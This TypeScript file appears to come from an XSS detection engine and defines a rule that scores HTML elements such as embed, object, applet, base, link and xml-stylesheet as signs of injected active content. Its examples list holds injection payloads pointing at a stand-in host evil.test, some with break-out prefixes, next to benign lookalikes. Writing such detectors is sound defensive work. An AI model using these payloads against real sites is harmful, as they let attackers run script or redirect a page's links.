import { html } from '../../grammars/html/html.ts';
import type { HtmlAttribute, HtmlTag } from '../../grammars/html/html-tags.ts';
import {
  followsBreakout,
  isEmbedSite,
  isForeignUrl,
  plainValue,
} from '../../grammars/html/markup.ts';
import { confidence } from '../../placement/confidence.ts';
import { strongest } from '../../placement/evidence.ts';
import type { Subject } from '../../placement/subject.ts';
import { charClass } from '../../text/char-class.ts';
import { wordList, wordSet } from '../../text/words.ts';
import type { Match, ValueRule } from '../rule.ts';

/** Elements that load something which can script the page, or change where all its URLs lead. */
export const activeElement: ValueRule = {
  id: 'xss.active-element',
  score: confidence.strong,
  message: 'adds an element that loads active content or moves the base of all links',
  trigger: {
    classes: charClass.less,
    literals: [
      wordList(
        'object embed applet base link layer import xml attlist bgsound datasrc',
        'formaction math urn:schemas',
      ),
    ],
  },
  judge: judgeActiveElement,
  examples: [
    '<embed src="//evil.test/x.swf" allowscriptaccess=always>',
    "<base href='//evil.test/'>",
    '<link rel=import href=//evil.test/x.html>',
    '<object type=text/x-scriptlet data="http://evil.test/s.html">',
    '<applet code=Evil.class codebase="http://evil.test/">',
    '--><link rel=stylesheet href=//evil.test/x.css>',
    '<link rel=modulepreload href=//evil.test/x.js>',
    '<?xml-stylesheet type="text/xsl" href="#sheet"?><sheet id="sheet"/>',
    '<?xml-stylesheet href="javascript:f(1)"?>',
    '"><?xml-stylesheet type="text/xsl" href="//evil.test/x.xsl"?>',
    '<?xml-stylesheet type="text/xsl" href="//evil.test/x.xsl"?><feed/>',
    'Nice. <link rel=stylesheet href="//evil.test/x.css">',
  ],
  lookalikes: [
    '<link rel="stylesheet" href="/static/site.css">',
    '<link rel="stylesheet" href="https://cdn.example.org/site.css" type="text/css">',
    '<link href="//fonts.example.org/css?family=Sans" rel="stylesheet" type="text/css">',
    '<link rel=stylesheet href="https://cdn.example.org/site.css">',
    '<embed src="https://www.youtube.com/v/abc" type="application/x-shockwave-flash">',
    '<base href="/app/"><p>Hello</p>',
    '<link rel="preconnect" href="https://cdn.example.org"><link rel=prefetch href=/next.html>',
    '<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="style.xsl"?>\n<urlset></urlset>',
    '<?xml-stylesheet href="/main-sitemap.xsl" type="text/xsl"?><feed/>',
    'Map<Object, List<Base>> m = new HashMap<>();',
  ],
};

function judgeActiveElement(subject: Subject): Match | undefined {
  const { text } = subject;
  let isInMath = false;
  const scoreInPlace = (tag: HtmlTag): number => {
    if (tag.name === 'math') isInMath = !tag.isEndTag;
    if (tag.isEndTag || tag.attributes.length === 0) return 0;
    const isMathLink = isInMath && isForeignUrl(plainValue(text, tag, 'xlink:href'));
    return isMathLink ? confidence.likely : scoreOf(text, tag);
  };
  return strongest(subject.tokens(html).tags, scoreInPlace, confidence.strong);
}

function scoreOf(text: string, tag: HtmlTag): number {
  return (scorers.get(tag.name) ?? scoreOfBinding)(text, tag);
}

type Scorer = (text: string, tag: HtmlTag) => number;

/** By the name of the element; data from elsewhere may be bound to any. */
const scorers: ReadonlyMap<string, Scorer> = new Map<string, Scorer>([
  ['object', scoreOfObject],
  ['embed', loading('src code href')],
  ['applet', loading('code codebase archive object')],
  ['bgsound', loading('src')],
  ['layer', having('src', confidence.strong)],
  ['ilayer', having('src', confidence.strong)],
  ['xml', having('src', confidence.likely)],
  ['import', having('implementation', confidence.strong)],
  ['?import', having('implementation', confidence.strong)],
  ['?namespace', scoreOfNamespace],
  ['base', scoreOfBase],
  ['link', scoreOfLink],
  ['?xml-stylesheet', scoreOfStyleSheet],
  ['!attlist', scoreOfDefaults],
]);

function having(attribute: string, score: number): Scorer {
  return (_text, tag) => (tag.attributes.find(attribute) === undefined ? 0 : score);
}

function loading(attributes: string): Scorer {
  const names = wordList(attributes);
  return (text, tag) => scoreOfLoader(text, tag, names);
}

function scoreOfNamespace(text: string, tag: HtmlTag): number {
  return plainValue(text, tag, 'ns').endsWith('microsoft-com:time') ? confidence.likely : 0;
}

function scoreOfBase(text: string, tag: HtmlTag): number {
  return isForeignUrl(plainValue(text, tag, 'href')) ? confidence.strong : 0;
}

/** `<!ATTLIST img onerror CDATA …>`: the default value of a handler. */
function scoreOfDefaults(_text: string, { attributes }: HtmlTag): number {
  const isHandler = attributes.some(({ name }) => name.startsWith('on') && name.length > 5);
  return isHandler ? confidence.strong : 0;
}

/**
 * Feeds and sitemaps name a style sheet of their own site in front of the root element. One from
 * elsewhere, and a part of the document itself, run what an attacker has written.
 */
function scoreOfStyleSheet(text: string, tag: HtmlTag): number {
  const url = plainValue(text, tag, 'href');
  if (url === '') return 0;
  const isOwn = relativePath.test(url) && !url.startsWith('//');
  return isOwn && isInProlog(text, tag.start) ? confidence.trace : confidence.likely;
}

const relativePath = /^[\w./%~+-]+(?:[?#]|$)/;

/** Nothing but white space, comments, the XML declaration and other instructions stands before. */
function isInProlog(text: string, start: number): boolean {
  if (start > prologMax) return false;
  let at = 0;
  while (at < start) {
    const code = text.charCodeAt(at);
    if (code <= 32 || code === 0xfeff) {
      at++;
      continue;
    }
    const isComment = text.startsWith('<!--', at);
    if (!isComment && !text.startsWith('<?', at)) return false;
    const end = isComment ? '-->' : '?>';
    const closing = text.indexOf(end, at);
    if (closing < 0) return false;
    at = closing + end.length;
  }
  return true;
}

/** Each style sheet of a value walks over what stands before it. */
const prologMax = 8_192;

/** Attributes of any element: data from elsewhere, or a form that is sent elsewhere. */
function scoreOfBinding(text: string, tag: HtmlTag): number {
  if (isForeignUrl(plainValue(text, tag, 'formaction'))) return confidence.strong;
  const isBound = tag.attributes.find('datasrc') !== undefined;
  return isBound && tag.attributes.find('datafld') !== undefined ? confidence.strong : 0;
}

function scoreOfObject(text: string, tag: HtmlTag): number {
  if (plainValue(text, tag, 'allowscriptaccess') === 'always') return confidence.strong;
  if (plainValue(text, tag, 'type').includes('scriptlet')) return confidence.certain;
  const source = plainValue(text, tag, 'data');
  if (source !== '') {
    if (isEmbedSite(source)) return 0;
    return isForeignUrl(source) || followsBreakout(text, tag.start)
      ? confidence.strong
      : confidence.hint;
  }
  return tag.attributes.find('classid') === undefined ? 0 : confidence.likely;
}

function scoreOfLoader(text: string, tag: HtmlTag, names: readonly string[]): number {
  const isTrusting = plainValue(text, tag, 'allowscriptaccess') === 'always';
  for (const name of names) {
    const url = plainValue(text, tag, name);
    if (url === '') continue;
    if (isEmbedSite(url)) return 0;
    return isTrusting || isForeignUrl(url) || url.startsWith('data:') || tag.name === 'applet'
      ? confidence.strong
      : confidence.hint;
  }
  return 0;
}

/** What a link may fetch besides a style sheet. */
const loadingRelations: ReadonlySet<string> = wordSet(
  'preload modulepreload prefetch prerender preconnect dns-prefetch manifest',
);

/** A page of today quotes its values and names `https:`; a host name can carry data away. */
function scoreOfPreload(text: string, tag: HtmlTag, link: HtmlAttribute, url: string): number {
  if (!isForeignUrl(url)) return 0;
  return link.quote === 0 || followsBreakout(text, tag.start)
    ? confidence.likely
    : confidence.trace;
}

/** Style sheets of foreign sites are in honest pages too, but then quoted and in no break-out. */
function scoreOfLink(text: string, tag: HtmlTag): number {
  const rel = plainValue(text, tag, 'rel');
  const link = tag.attributes.find('href');
  if (link === undefined) return 0;
  if (rel === 'import') return confidence.certain;
  const url = plainValue(text, tag, 'href');
  if (rel === 'stylesheet' && url.startsWith('data:text/css')) return confidence.strong;
  if (loadingRelations.has(rel)) return scoreOfPreload(text, tag, link, url);
  if (rel !== 'stylesheet') return 0;
  if (!isForeignUrl(url)) return 0;
  // No page of today names a style sheet without TLS and nothing beside it.
  if (url.startsWith('http:') && tag.start < 8) return confidence.likely;
  if (link.quote === 0 || followsBreakout(text, tag.start)) return confidence.strong;
  // Code for embedding a style sheet without a scheme quotes all of its values.
  const isBare = tag.attributes.find('rel')?.quote === 0;
  return isBare && !url.startsWith('https:') ? confidence.likely : confidence.hint;
}
